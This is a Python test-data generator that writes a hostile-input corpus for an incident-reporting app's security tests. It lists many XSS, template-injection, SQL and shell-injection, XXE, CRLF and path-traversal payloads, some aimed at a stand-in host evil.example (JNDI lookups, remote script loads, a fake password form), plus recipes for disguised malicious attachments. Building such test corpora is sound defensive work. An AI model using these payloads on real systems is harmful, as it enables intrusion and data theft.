#!/usr/bin/env python3
"""Writes corpus.json, the hostile-input corpus the hostile tests drive through forms and the API.

Run from this directory (python3 make-corpus.py) after changing it; commit both files.
Script payloads set window.__pwned (or call alert/confirm/prompt, which the browser tests hook),
so a test can tell whether anything ran.
"""
import json

P = "window.__pwned=1"

def xss_script():
    return [
        f"<script>{P}</script>",
        f"<SCRIPT>{P}</SCRIPT>",
        f"<ScRiPt>{P}</sCrIpT>",
        "<script>alert(1)</script>",
        "<script>confirm(1)</script>",
        "<script>prompt(1)</script>",
        f"<script src=data:text/javascript,{P}></script>",
        "<script src=//evil.example/x.js></script>",
        f"<script>/*</script>*/{P}</script>",
        f"<scr<script>ipt>{P}</scr</script>ipt>",
        f"<script\n>{P}</script\n>",
        f"<script type=module>{P}</script>",
        f"<script>eval(atob('{'d2luZG93Ll9fcHduZWQ9MQ=='}'))</script>",
        f"<script>setTimeout('{P}')</script>",
        f"'\"><script>{P}</script>",
        f"\"><script>{P}</script><\"",
        f"</script><script>{P}</script>",
        f"<script>{P}//",
        f"<<script>{P};//<</script>",
        f"<script>\u0000{P}</script>",
        f"%3Cscript%3E{P}%3C/script%3E",
        f"&lt;script&gt;{P}&lt;/script&gt;",
        f"\\x3cscript\\x3e{P}\\x3c/script\\x3e",
        f"\\u003cscript\\u003e{P}\\u003c/script\\u003e",
        f"<script>document.body.innerHTML='<b>owned</b>';{P}</script>",
        f"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>{{{P}}})</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror={P}>\">",
        f"<template><script>{P}</script></template>",
        f"<xmp><script>{P}</script></xmp>",
        f"<plaintext><script>{P}</script>",
    ]

TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "input autofocus",
        "details open", "marquee", "object data=x", "embed src=x", "select autofocus", "textarea autofocus",
        "div tabindex=1 autofocus", "a href=#", "button autofocus", "form", "isindex", "style", "image src=x"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onstart", "onbegin",
          "onanimationstart", "onpointerenter"]

def xss_events():
    out = []
    for i, tag in enumerate(TAGS):
        for j, event in enumerate(EVENTS):
            if (i + j) % 2 == 0:
                out.append(f"<{tag} {event}={P}>")
    out += [
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert('x')\">",
        "<img src=x:alert(1) onerror=eval(src)>",
        f"<img/src=x/onerror={P}>",
        f"<img src=x onerror\n={P}>",
        f"<img src=x onerror=&#119;indow.__pwned=1>",
        f"<img src=x oNeRrOr={P}>",
        f"<img src=`x` onerror={P}>",
        f"<img src=\"x\" onerror=\"{P}\"",
        f"<svg/onload={P}>",
        f"<svg><animate onbegin={P} attributeName=x dur=1s>",
        f"<body onpageshow={P}>",
        f"<style>@keyframes x{{}}</style><div style=animation-name:x onanimationstart={P}></div>",
        f"<div onmouseover=\"{P}\" style=\"position:fixed;inset:0\">hover</div>",
        f"<input onfocus={P} autofocus>",
        f"<x contenteditable onblur={P}>lose focus!",
        f"<details/open/ontoggle={P}>",
        f"<video><source onerror={P}>",
        f"<a onpointerdown={P}>press</a>",
        f"\" onmouseover=\"{P}",
        f"' onfocus='{P}' autofocus='",
        f"\" autofocus onfocus=\"{P}",
        f"<math><mtext><img src=x onerror={P}></mtext></math>",
        f"<form><button formaction=javascript:{P}>x</button></form>",
        f"<isindex type=image src=1 onerror={P}>",
    ]
    return out

def xss_urls():
    return [
        f"javascript:{P}",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        f"java\tscript:{P}",
        f"java\nscript:{P}",
        f" javascript:{P}",
        f"javascript&colon;{P}",
        f"&#106;avascript:{P}",
        f"data:text/html,<script>{P}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
        "vbscript:msgbox(1)",
        f"<a href=\"javascript:{P}\">click me</a>",
        f"<a href=javascript&#58;{P}>x</a>",
        f"<iframe src=\"javascript:{P}\"></iframe>",
        f"<iframe srcdoc=\"<script>parent.{P}</script>\"></iframe>",
        f"<object data=\"javascript:{P}\"></object>",
        f"<embed src=\"javascript:{P}\">",
        f"<form action=javascript:{P}><input type=submit>",
        f"<meta http-equiv=refresh content=\"0;url=javascript:{P}\">",
        f"<base href=javascript:{P}//>",
        f"<link rel=import href=data:text/html,<script>{P}</script>>",
        f"http://example.com/\"><script>{P}</script>",
        f"https://example.com/?q=<script>{P}</script>",
        f"https://example.com/#\"><img src=x onerror={P}>",
    ]

def xss_svg():
    return [
        f"<svg><script>{P}</script></svg>",
        f"<svg><script href=data:,{P} />",
        f"<svg><a xlink:href=\"javascript:{P}\"><text x=20 y=20>x</text></a></svg>",
        f"<svg><foreignObject><body onload={P}></foreignObject></svg>",
        f"<svg><set attributeName=onmouseover to={P}>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{P}'/></svg>#x\"/></svg>",
        f"<svg><style>&lt;img src=x onerror={P}&gt;</style></svg>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{P}>x</maction></math>",
        f"<math href=javascript:{P}>click</math>",
        f"<svg><![CDATA[><img src=x onerror={P}>]]></svg>",
        f"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{P}\"/>",
        f"<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"x\" onerror=\"{P}\"/></svg>",
    ]

def xss_breakout():
    return [
        f"</textarea><script>{P}</script>",
        f"</title><script>{P}</script>",
        f"</style><script>{P}</script>",
        f"</noscript><script>{P}</script>",
        f"</xmp><script>{P}</script>",
        f"</iframe><script>{P}</script>",
        f"--><script>{P}</script><!--",
        f"]]><script>{P}</script><![CDATA[",
        f"]]><entry><title>injected</title></entry><![CDATA[",
        "</content><entry><title>forged entry</title></entry><content>",
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
        "&xxe; &amp; &lt; &gt; &quot; &apos; &#0; &#x0;",
        f"\"><img src=x onerror={P}>",
        f"'><img src=x onerror={P}>",
        f"`><img src=x onerror={P}>",
        f"\\\"><img src=x onerror={P}>",
        f"</vaadin-text-field><img src=x onerror={P}>",
        f"<slot name=x></slot><img src=x onerror={P}>",
        f"</p></div></body></html><script>{P}</script>",
        f"<!--<img src=\"--><img src=x onerror={P}//\">",
        f"<a title=\"a\\\"><img src=x onerror={P}>\">",
        f"</script><svg onload={P}>",
        f"\";{P};//",
        f"';{P};//",
        f"\\';{P};//",
        f"\"}};{P};//",
        f"<style>body{{background:url(\"javascript:{P}\")}}</style>",
        "<style>*{display:none!important}</style>",
        "<b>bold</b> <i>italic</i> <u>under</u> <marquee>moving</marquee>",
        "<h1>Huge heading</h1><hr><table><tr><td>cell</td></tr></table>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</div>",
        "<form action=https://evil.example/><input name=password placeholder=\"Re-enter password\"></form>",
        "[click me](javascript:window.__pwned=1) **bold** _em_ `code`",
        f"![x](x\" onerror=\"{P})",
        f"[a](javascript:{P})",
        f"<a href=\"https://evil.example\" onclick=\"{P}\">Status page</a>",
    ]

def template_injection():
    return [
        "${7*7}", "${{7*7}}", "{{7*7}}", "{{7*'7'}}", "#{7*7}", "*{7*7}", "@{7*7}", "%{7*7}", "<%= 7*7 %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.System).exit(0)}",
        "${jndi:ldap://evil.example/a}",
        "${jndi:${lower:l}${lower:d}ap://evil.example/a}",
        "${env:HOME}", "${sys:user.home}", "${java:version}",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "{{$on.constructor('window.__pwned=1')()}}",
        "[[${7*7}]]", "[(${7*7})]", "__${7*7}__::.x",
        "{0} {1} {2} {0,number,#} {0,choice,0#x}",
        "'{0}' ''quoted'' {",
        "}{ {{ }} {{{",
        "%s%s%s%s%n%x%p",
        "%1$s %2$d %%",
        "$1 $& $` $' \\1 \\0",
        "<#assign x=7*7>${x}",
        "{% raw %}{{7*7}}{% endraw %}",
        "${\"a\".getClass().forName(\"java.lang.Runtime\")}",
        "`${window.__pwned=1}`",
        "{{#with \"s\" as |string|}}{{/with}}",
        "@(7*7) @{var x=7*7;}",
        "${{<%[%'\"}}%\\.",
    ]

def sql():
    return [
        "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "' OR ''='", "admin'--", "admin' #", "') OR ('1'='1",
        "1; DROP TABLE problem_report; --", "'; DROP TABLE incident; --", "1' UNION SELECT password_hash FROM user_account --",
        "' UNION SELECT NULL,NULL,NULL--", "1 AND SLEEP(5)", "1' AND SLEEP(5) AND '1'='1", "'; SELECT BENCHMARK(10000000,MD5(1)); --",
        "' AND extractvalue(1,concat(0x7e,version())) --", "1' ORDER BY 99 --", "%' AND 1=0 UNION SELECT * FROM api_token --",
        "\\' OR 1=1 -- ", "\\\\'; --", "''''''''''", "\"\"\"\"\"\"", "';", "`id`", "$(id)", "; ls -la", "| cat /etc/passwd",
        "&& whoami", "\n/bin/sh", "0x27 0x22 0x5c", "CHAR(39)||CHAR(39)", "/**/OR/**/1=1", "%00' OR 1=1",
        "' OR 1=1 LIMIT 1 OFFSET 1 --", "1;SHUTDOWN;--", "LOAD_FILE('/etc/passwd')", "INTO OUTFILE '/tmp/x'",
        "{\"$gt\": \"\"}", "{\"$where\": \"sleep(1000)\"}", "*)(uid=*))(|(uid=*", "admin)(&)", "//*[name()='x']",
        "\\N", "NULL", "null", "undefined", "NaN", "true", "0", "-0", "1e309",
    ]

def control_chars():
    out = []
    for c in list(range(0x00, 0x20)) + [0x7F]:
        out.append(f"before{chr(c)}after")
    out += [
        "\u0000", "\u0000\u0000\u0000", "null\u0000byte.png", "trailing NUL\u0000",
        "\u0085next line", "\u0080\u0081\u009f C1 controls", "line\u2028separator", "para\u2029separator",
        "\u000b vertical tab \u000c form feed", "bell\u0007\u0007\u0007", "esc \u001b[31mred\u001b[0m",
        "back\bspace\b\b\bover", "carriage\roverwrite", "tab\tseparated\tvalues",
        "\r\n\r\n", "\n\n\n\n\n", "   leading and trailing spaces   ", "\t\t", "\u00a0non-breaking\u00a0spaces\u00a0",
    ]
    return out

def surrogates():
    return [
        "\ud800", "\udfff", "\udc00", "lone high \ud83d at the end", "\ude00 lone low at the start",
        "reversed pair \ude00\ud83d", "two highs \ud83d\ud83d", "mixed 😀\ud800😀", "\udbff\udbff\udfff",
        "name\ud800.png", "\ud834", "a\udfffb", "\uffff\ufffe noncharacters", "\ufffd replacement",
        "\U0010ffff max code point",
    ]

def bidi():
    return [
        "\u202eevil.exe\u202c", "invoice\u202egnp.exe", "\u202d\u202eoverride\u202c\u202c",
        "user\u202e@demo.local", "\u2066isolated\u2069", "\u2067rtl isolate\u2069", "\u2068first strong\u2069",
        "\u202aLRE\u202c \u202bRLE\u202c", "\u200fRLM\u200e LRM", "\u061cArabic letter mark",
        "שלום עולם mail is down", "البريد الإلكتروني لا يعمل", "mixed English עברית 123 عربي",
        "(שלום) [עולם] {123}", "\u202e\u2066 nested \u2069\u202c", "‮ bare RLO", "\u202e" * 50,
        "if (a \u202e) { b }", "\u2067\u2066\u2068 unbalanced", "ﷺ ﷽ wide Arabic ligatures",
        "Ελληνικά Кириллица 中文 日本語 한국어", "ไทย हिन्दी বাংলা தமிழ்",
        "aͣͤͥͦͧͨͩͪͫͬͭͮͯ combining", "Z̷̢̛̛̯̭͇̼͙̦̮͎̭̫̆̀̀͌̉̒̒ͅa̸̡̰̳̎l̵͎̈́g̷̱̈o̶͍̍", "e\u0301 vs \u00e9 (NFD vs NFC)",
        "ﬁ ligature ＦＵＬＬＷＩＤＴＨ", "Ⅻ ① ⁵ ₂", "İstanbul ı i İ I (Turkish case)", "ß ẞ ss", "\u0130\u0131",
    ]

def emoji():
    return [
        "😀", "📧💥🔥", "👨‍👩‍👧‍👦 family", "🏳️‍🌈 flag", "🇪🇸🇬🇧🇺🇸", "👍🏽👍🏿", "1️⃣ #️⃣ *️⃣",
        "🧑🏽‍💻 at work", "❤️‍🔥", "🫠🫡🫥", "👩🏻‍❤️‍💋‍👨🏼", "🏴󠁧󠁢󠁳󠁣󠁴󠁿 Scotland (tag sequence)",
        "\u200d\u200d\u200d zero width joiners", "a\u200bb\u200cc\u200dd\ufeffe zero width", "\ufeffBOM at start",
        "😀" * 200, "👨‍👩‍👧‍👦" * 60, "🔥 Mail down 🔥 since 9:00 ⏰", "✉️ ≠ 📬", "𝕸𝖆𝖎𝖑 𝖉𝖔𝖜𝖓 (math alphanumerics)",
        "𓀀𓀁𓀂 hieroglyphs", "🀄🃏 tiles", "\U0001F9D1\u200d\U0001F680", "🏻 lone skin tone", "\ufe0f lone variation selector",
        "ㅤ hangul filler", "\u3000ideographic space\u3000", "⁣invisible separator⁣", "\u2060word joiner\u2060",
        "\u00ad soft\u00adhyphen",
    ]

def crlf():
    return [
        "Mail down\r\nBcc: victim@evil.example", "Mail down\nBcc: victim@evil.example", "Mail down\rBcc: x@evil.example",
        "Subject\r\nContent-Type: text/html\r\n\r\n<script>window.__pwned=1</script>",
        "x\r\n\r\nInjected body", "x%0d%0aBcc:%20y@evil.example", "x%0ABcc:y@evil.example", "x\\r\\nBcc: y@evil.example",
        "x\u2028Bcc: y@evil.example", "x\u0085Bcc: y@evil.example", "=?utf-8?q?=0D=0ABcc:_y@evil.example?=",
        "=?UTF-8?B?DQpCY2M6IHlAZXZpbC5leGFtcGxl?=", "\r\nSet-Cookie: session=stolen", "x\r\nLocation: https://evil.example",
        "HTTP/1.1 200 OK\r\n\r\n<html>", "title\r\n.\r\nMAIL FROM:<x@evil.example>", "\r\n.\r\nQUIT\r\n",
        "user@demo.local\r\nBcc: y@evil.example", "user@demo.local%0aBcc:y@evil.example", "<user@demo.local>\r\nTo: all@demo.local",
    ]

def unicode_misc():
    return [
        "＜script＞window.__pwned=1＜/script＞", "\uff1cimg src=x onerror=window.__pwned=1\uff1e", "ʺ onmouseover=ʺwindow.__pwned=1",
        "аdmin@demo.local (Cyrillic a)", "pаypal.com", "ℌ𝔢𝔩𝔭𝔡𝔢𝔰𝔨", "Ⓜⓐⓘⓛ", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd", "\\\\evil.example\\share\\x", "C:\\Windows\\System32\\cmd.exe",
        "/dev/null", "CON", "AUX.txt", "NUL", "a" * 300 + "_no_spaces_one_very_long_word_that_never_wraps_" + "b" * 300,
        "x" * 1000, " ", "\t", ".", "-", "0", "%", "_", "\\", "\"", "'", "<", ">", "&", "&amp;", "&#x3C;",
    ]

def oversized():
    # Expanded per field by the tests: "over" adds that many units past the field's limit.
    return [
        {"label": "ascii-just-over", "unit": "a", "over": 1},
        {"label": "ascii-10x", "unit": "a", "factor": 10},
        {"label": "ascii-far-over-1MB", "unit": "a", "times": 1_048_577},
        {"label": "emoji-just-over", "unit": "😀", "over": 1},
        {"label": "zwj-family-just-over", "unit": "👨‍👩‍👧‍👦", "over": 1},
        {"label": "combining-just-over", "unit": "e\u0301", "over": 1},
        {"label": "at-limit-ascii", "unit": "a", "over": 0},
        {"label": "at-limit-accented", "unit": "ñ", "over": 0},
        {"label": "markup-far-over", "unit": "<b>x</b>", "factor": 20},
        {"label": "newlines-far-over", "unit": "\n", "factor": 5},
    ]

def malformed_json():
    return [
        "", " ", "{", "}", "[", "{\"symptom\":", "{\"symptom\":\"CANNOT_SEND\"", "{'symptom':'CANNOT_SEND'}",
        "{symptom:CANNOT_SEND}", "{\"symptom\":\"CANNOT_SEND\",}", "{\"symptom\":\"CANNOT_SEND\"}}", "[]", "[{}]", "null",
        "true", "0", "\"string\"", "NaN", "{\"description\":\"\\u00\"}", "{\"description\":\"\\x41\"}",
        "{\"description\":\"unterminated}", "{\"a\":1}/*comment*/", "{\"a\":1}//", "\ufeff{\"symptom\":\"OTHER\"}",
        "{\"description\":\"a\"\"b\"}", "{\"description\":\"\t\"}", "{\"description\":\"\u0000\"}",
        "<?xml version=\"1.0\"?><report/>", "symptom=OTHER&description=x", "{\"a\":" + "[" * 2000 + "]" * 2000 + "}",
        "{" + "\"a\":{" * 1500 + "}" * 1501, "{\"description\":" + "1" * 5000 + "}", "{\"symptom\":\"OTHER\"}\u0000",
        "\u0000", "{\"__proto__\":{\"admin\":true}}", "{\"constructor\":{\"prototype\":{\"x\":1}}}",
        "{\"symptom\":\"OTHER\",\"symptom\":\"CANNOT_SEND\"}", "{\"description\":\"" + "\\\\" * 3000 + "\"}",
        "{\"a\":1e999999}", "{\"a\":-}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":0x10}", "{\"a\":Infinity}",
        "{\"a\":undefined}", "{\"a\":\"\\ud800\"}", "\u00ff\u00fe{", "\u007f", "{\"a\":[1,2,}", "{,}",
    ]

def wrong_types():
    return [
        {"symptom": 1}, {"symptom": True}, {"symptom": None}, {"symptom": []}, {"symptom": {}}, {"symptom": "cannot_send"},
        {"symptom": "NOT_A_SYMPTOM"}, {"symptom": "CANNOT_SEND ", "service": "WEBMAIL"}, {"symptom": "<script>"},
        {"service": 3}, {"service": "webmail"}, {"service": ["WEBMAIL"]}, {"description": 12345}, {"description": True},
        {"description": ["a", "b"]}, {"description": {"text": "x"}}, {"description": 1.5e300}, {"errorText": False},
        {"errorText": {"$gt": ""}}, {"startedAt": "yesterday"}, {"startedAt": 1700000000}, {"startedAt": True},
        {"startedAt": "2026-13-45T25:61:61Z"}, {"startedAt": "0000-00-00T00:00:00Z"}, {"startedAt": "+999999999-12-31T23:59:59Z"},
        {"startedAt": "-999999999-01-01T00:00:00Z"}, {"startedAt": "2026-02-30T10:00:00Z"}, {"startedAt": ""},
        {"startedAt": ["2026-01-01T00:00:00Z"]}, {"affectedAddress": 7}, {"affectedAddress": ["a@b.c"]},
        {"affectedAddress": "a@b.c\r\nBcc: x@y.z"}, {"affectedAddress": "<script>@x.com"}, {"id": -1}, {"reporterId": 1},
        {"status": "RESOLVED"}, {"incidentId": 1}, {"extraField": "ignored?"}, {"symptom": "OTHER", "description": None},
        {"symptom": "OTHER", "service": "OTHER", "description": "x", "screenshot": "AAAA"},
    ]

def attachments():
    # Built by the tests from these recipes (HostileFiles), never stored as real binaries here.
    return [
        {"name": "screenshot.png", "recipe": "exe", "why": "a Windows executable (MZ header) renamed .png"},
        {"name": "photo.jpg", "recipe": "elf", "why": "an ELF executable renamed .jpg"},
        {"name": "polyglot.png", "recipe": "png-html-polyglot", "why": "a valid PNG header followed by an HTML page with a script"},
        {"name": "polyglot.gif", "recipe": "gif-js-polyglot", "why": "GIF89a header that is also a JavaScript file"},
        {"name": "bomb.png", "recipe": "png-decompression-bomb", "why": "a small PNG declaring 100000x100000 pixels"},
        {"name": "empty.png", "recipe": "empty", "why": "0 bytes"},
        {"name": "huge.png", "recipe": "png-over-limit", "why": "a PNG just over the size limit"},
        {"name": "far-too-big.png", "recipe": "png-far-over-limit", "why": "a PNG 4x the size limit"},
        {"name": "image.svg", "recipe": "svg-script", "why": "an SVG with a script (not an accepted image type)"},
        {"name": "page.html", "recipe": "html", "why": "an HTML page with a script"},
        {"name": "truncated.png", "recipe": "png-truncated", "why": "only the first 4 bytes of a PNG signature"},
        {"name": "..\\..\\evil.png", "recipe": "png-small", "why": "a real PNG with a path traversal name"},
        {"name": "<img src=x onerror=window.__pwned=1>.png", "recipe": "png-small", "why": "a real PNG with markup in its name"},
        {"name": "invoice\u202egnp.exe", "recipe": "exe", "why": "right-to-left override hiding .exe"},
        {"name": "a" * 300 + ".png", "recipe": "png-small", "why": "a 304-character file name"},
        {"name": "nul\u0000.png", "recipe": "png-small", "why": "a NUL byte in the file name"},
        {"name": "archive.zip.png", "recipe": "zip", "why": "a ZIP archive renamed .png"},
        {"name": "doc.pdf.png", "recipe": "pdf-js", "why": "a PDF with JavaScript renamed .png"},
    ]

def bad_dates():
    return [
        "", "yesterday", "now", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T24:00:00Z", "2026-01-01T23:60:00Z",
        "2026-01-01", "2026-01-01T10:00", "01/02/2026", "2026-01-01T10:00:00+25:00", "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "1970-01-01T00:00:00Z",
        "1969-12-31T23:59:59Z", "2100-01-01T00:00:00Z", "-1", "99999999999999999999", "NaN", "2026-01-01T10:00:00.1234567890Z",
        "2026-W01-1", "2026-001", "<script>", "2026-01-01T10:00:00Z\r\nX: y", "2026\u00000101", "２０２６-０１-０１T00:00:00Z",
        "2026-01-01T10:00:00Z' OR 1=1 --", "P1D",
    ]

def bad_ids():
    return [
        "-1", "0", "-0", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999",
        "1.5", "1e3", "0x10", "abc", "NaN", "Infinity", "null", "undefined", "true", "%00", "1%00", "1;DROP TABLE x",
        "1' OR '1'='1", "..%2F..%2Fetc%2Fpasswd", "..%252F..%252Fetc%252Fpasswd", "%2e%2e", "1%2F2", "1%0D%0AX-Injected:%20yes",
        "%3Cscript%3E", "%E2%80%AE1", "%F0%9F%98%80", "%ff%fe", "%C0%AE%C0%AE", " 1", "1 ", "+1", "01", "1,2", "[1]", "{1}",
        "1.0", "%20", "%",
    ]

TEXT = {
    "xss-script": xss_script(),
    "xss-event-handler": xss_events(),
    "xss-url": xss_urls(),
    "xss-svg-mathml": xss_svg(),
    "xss-breakout-and-markup": xss_breakout(),
    "template-injection": template_injection(),
    "sql-and-shell-metacharacters": sql(),
    "control-characters": control_chars(),
    "lone-surrogates": surrogates(),
    "bidi-and-scripts": bidi(),
    "emoji-zwj": emoji(),
    "crlf-header-injection": crlf(),
    "unicode-misc-and-paths": unicode_misc(),
}

corpus = {
    "about": "Hostile inputs for OutageDesk's hostile-input tests (see docs/hostile-input.md). "
             "Generated by make-corpus.py; edit that and regenerate.",
    "text": TEXT,
    "oversized": oversized(),
    "malformedJson": malformed_json(),
    "wronglyTypedJson": wrong_types(),
    "attachments": attachments(),
    "badDates": bad_dates(),
    "badIds": bad_ids(),
}

with open("corpus.json", "w", encoding="utf-8") as out:
    # ensure_ascii keeps lone surrogates and control characters as \\u escapes: the file stays valid UTF-8.
    json.dump(corpus, out, ensure_ascii=True, indent=1)

counts = {k: len(v) for k, v in TEXT.items()}
for key in ("oversized", "malformedJson", "wronglyTypedJson", "attachments", "badDates", "badIds"):
    counts[key] = len(corpus[key])
for k, v in counts.items():
    print(f"{k:32} {v}")
print(f"{'total':32} {sum(counts.values())}")
